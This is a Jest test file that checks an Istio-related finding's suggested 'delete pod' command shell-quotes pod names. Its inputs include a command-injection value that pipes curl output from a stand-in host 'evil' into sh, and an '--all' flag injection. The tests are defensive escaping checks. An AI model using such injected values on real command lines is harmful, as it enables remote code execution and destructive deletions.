import { expect, test } from '@jest/globals';
import { sidecarOutOfSync } from '../../src/controlplane/findings/proxy-findings.js';

const scope = { name: 'main', kind: 'istio', title: 'Istio', cluster: 'eu', owner: undefined } as const;
const stuck = { what: ['clusters'], seconds: 90, since: 1_800_000_000, at: '10.0.0.1:15014' };
const actionFor = (pod: string): string =>
  sidecarOutOfSync(scope, { cluster: 'eu', namespace: 'shop', pod, service: undefined, owner: undefined }, stuck)
    .action;

test.each([
  ['cart-7c9f8d6b5-x2x7p', 'delete pod/cart-7c9f8d6b5-x2x7p'],
  ["x; curl evil | sh '", "delete 'pod/x; curl evil | sh '\\'''"],
  ['--all', 'delete pod/--all'],
])('a command that people paste has the name %s as one word', (pod, command) => {
  expect(actionFor(pod).endsWith(command)).toBe(true);
});
